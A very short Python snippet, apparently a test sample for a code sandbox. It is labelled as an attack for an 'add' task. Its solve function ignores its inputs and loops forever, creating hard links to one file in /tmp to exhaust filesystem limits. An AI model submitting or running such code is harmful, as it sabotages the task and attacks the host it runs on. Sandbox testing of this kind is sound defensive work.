# Attack: as many names for one file as fit.
# task: add
import os
def solve(a, b):
    open('/tmp/a','w').close()
    i=0
    while True:
        os.link('/tmp/a','/tmp/l%d'%i); i+=1
